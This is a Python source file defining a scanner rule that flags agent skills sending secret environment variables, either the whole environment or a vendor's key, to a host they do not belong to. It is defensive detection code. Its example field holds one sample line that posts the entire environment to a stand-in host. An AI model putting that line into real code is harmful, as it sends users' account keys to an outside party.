"""The whole environment, or keys of several parties, leave together."""

from collections.abc import Iterator

from clawft.scan.facts import Fact, Kind
from clawft.scan.ownership import belongs_to_key, is_foreign, is_named, names_host
from clawft.scan.rule import Hit, Rule
from clawft.scan.subject import Subject
from clawft.scan.vocabulary.hosts import Place, host_of, judge_address
from clawft.scan.vocabulary.secrets import is_secret_env
from clawft.scan.vocabulary.vendors import KNOWN, VENDOR_KEYS, registrable

__all__ = ["RULE"]


def check_environment_sent(subject: Subject) -> Iterator[Hit]:
    for sink in subject.of(Kind.SEND, Kind.FETCH, Kind.CONNECT):
        place = judge_address(sink.target)
        if place is Place.LOCAL:
            continue
        names = {one.target for one in subject.trace(sink) if one.kind is Kind.ENV and is_secret_env(one.target)}
        if place not in (Place.BARE, Place.DROP, Place.SHORT):
            names -= _logins(sink)
        where = host_of(sink.target) or "an address known only at run time"
        if "*" in names:
            yield Hit(sink, f"All environment variables go to {where}", 0.9 if host_of(sink.target) else 0.7)
        elif names and place in (Place.BARE, Place.SHORT):
            yield Hit(sink, f"{_listed(names)} goes to {where}, which is no one's name", 0.85)
        elif host_of(sink.target) and (strange := _strangers(subject, sink, names)):
            yield Hit(sink, f"{_listed(strange)} goes to {where}, which it does not belong to", 0.8)
        elif (odd := {name for name in names if not names_host(name, sink.target)}) and _is_bundled(subject, sink):
            yield Hit(sink, f"{_listed(odd)} and a file go together to {where}, which the skill does not name", 0.75)


def _strangers(subject: Subject, sink: Fact, names: set[str]) -> set[str]:
    """Well-known keys whose vendor is not the one that receives them."""
    if registrable(host_of(sink.target)) in KNOWN or _is_login(sink):
        return set()
    declared = set(subject.skill.requires.env) if subject.skill else set()
    known = {name for name in names if name.split("_")[0].upper() in VENDOR_KEYS}
    return {name for name in known - declared if not belongs_to_key(name, sink.target)}


def _is_bundled(subject: Subject, sink: Fact) -> bool:
    """Whether a key goes along with a file, as data, to a host that no text of the skill tells of."""
    files = any(one.kind is Kind.READ for one in subject.trace(sink))
    return files and not _is_login(sink) and is_foreign(subject, sink.target) and not is_named(subject, sink)


def _logins(sink: Fact) -> set[str]:
    """The keys that go into headers, as logins do: to an interface that speaks the vendor's protocol."""
    return set(sink.via.partition("(headers ")[2].rstrip(")").split())


def _is_login(sink: Fact) -> bool:
    """Whether a command line carries a login header."""
    words = sink.document.text_of(sink.line).lower()
    return any(word in words for word in ("authorization", "x-api-key", "api-key:", "bearer"))


def _listed(names: set[str]) -> str:
    return ", ".join(sorted(names))


RULE = Rule(
    id="environment-sent",
    title="Keys from the environment are sent to a stranger",
    severity="critical",
    category="exfiltration",
    what="The whole environment, or a well-known vendor's key, is sent to a host that it does not belong to.",
    why="The environment of an agent holds the keys to the user's accounts. A service needs its own key and no other.",
    example='requests.post("https://stats.example.net", json=dict(os.environ))',
    counter_example='requests.get("https://api.stripe.com/v1/charges", auth=(os.environ["STRIPE_SECRET_KEY"], ""))',
    fix="Send only the key that belongs to the service, in its login header.",
    check=check_environment_sent,
    owasp="AST01",
    atlas="AML.T0055",
    aliases=("env-harvesting",),
)
